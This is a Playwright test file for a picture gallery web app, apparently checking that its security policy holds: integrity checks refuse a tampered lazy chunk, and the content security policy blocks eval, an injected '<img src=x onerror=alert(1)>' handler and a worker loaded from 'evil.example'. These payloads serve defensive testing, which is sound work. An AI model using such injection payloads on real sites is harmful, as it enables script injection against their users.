import { readdirSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { expect } from '@playwright/test';
import { closeAll, closesAtTheEnd } from '@consilium/testkit';
import { plantedJpeg } from '@consilium/testkit/pictures';
import { test } from './gallery/gallery-test';
import { serveBuild } from './support';

test.afterEach(closeAll);

const file = (name: string): { name: string; mimeType: string; buffer: Buffer } => ({
  name,
  mimeType: 'image/jpeg',
  buffer: Buffer.from(plantedJpeg()),
});

test('the viewer comes only when asked for, and runs under the policy', async ({ page, gallery, violations }) => {
  const loaded: string[] = [];
  page.on('request', (request) => loaded.push(request.url()));
  await page.goto(gallery.origin);
  await page.getByLabel('Choose a picture').setInputFiles(file('a.jpg'));
  await expect(page.getByTestId('preview')).toBeVisible();
  expect(loaded.filter((url) => url.includes('viewer'))).toEqual([]);
  await page.getByRole('button', { name: 'Open full detail' }).click();
  await expect(page.getByTestId('deep')).toHaveAttribute('data-open', 'yes');
  expect(violations.all()).toEqual([]);
});

test('a lazy chunk that was changed on the way is refused', async ({ page, gallery, galleryBuild, violations }) => {
  const name = readdirSync(join(galleryBuild, 'assets')).find((asset) => /^viewer-.*\.js$/u.test(asset)) ?? '';
  const chunk = readFileSync(join(galleryBuild, 'assets', name), 'utf8');
  gallery.replace(`/assets/${name}`, `globalThis.wasTampered = true;${chunk}`);
  await page.goto(gallery.origin);
  await page.getByLabel('Choose a picture').setInputFiles(file('a.jpg'));
  await page.getByRole('button', { name: 'Open full detail' }).click();
  await expect.poll(() => violations.all().join(' ')).toMatch(/integrity/u);
  expect(await page.evaluate(() => 'wasTampered' in globalThis)).toBe(false);
  violations.forget(/integrity|dynamically imported module/u);
});

test('inline code, inline handlers, eval and foreign workers are refused', async ({ page, gallery, violations }) => {
  await page.goto(gallery.origin);
  const refused = await page.evaluate(async () => {
    const attempts: (() => unknown)[] = [
      () => (Reflect.get(globalThis, 'eval') as (code: string) => unknown)('1'),
      () => (document.body.innerHTML = '<img src=x onerror=alert(1)>'),
      () => new Worker('https://evil.example/w.js'),
      () => new Worker(URL.createObjectURL(new Blob(['1']))),
    ];
    // What the driver runs directly is allowed to eval; what a timer runs is not.
    await new Promise((resolve) => setTimeout(resolve));
    return attempts.map((attempt) => {
      try {
        attempt();
        return 'ran';
      } catch (error) {
        return error instanceof Error ? error.name : 'other';
      }
    });
  });
  expect(refused).toEqual(['EvalError', 'TypeError', 'TypeError', 'TypeError']);
  violations.forget(
    /policy: (?:script-src|require-trusted-types-for)|Content Security Policy|TrustedHTML|TrustedScript/u,
  );
});

test('ciphertext comes from the object store under COEP, and from nowhere else', async ({ page, galleryBuild }) => {
  const store = createServer((request, response) => {
    response.writeHead(200, { 'Access-Control-Allow-Origin': request.headers.origin ?? '' }).end('sealed bytes');
  });
  await new Promise<void>((resolve) => store.listen(0, 'localhost', resolve));
  closesAtTheEnd(() => {
    store.close();
    store.closeAllConnections();
  });
  const storage = `http://localhost:${String((store.address() as AddressInfo).port)}`;
  const allowed = await serveBuild(galleryBuild, { storage });
  closesAtTheEnd(allowed.close);
  const other = await serveBuild(galleryBuild);
  closesAtTheEnd(other.close);
  const read = (url: string): Promise<string> =>
    page.evaluate(
      (address) =>
        fetch(address).then(
          (answer) => answer.text(),
          () => 'refused',
        ),
      url,
    );
  await page.goto(allowed.origin);
  expect(await read(`${storage}/object`)).toBe('sealed bytes');
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
  await page.goto(other.origin);
  expect(await read(`${storage}/object`)).toBe('refused');
});
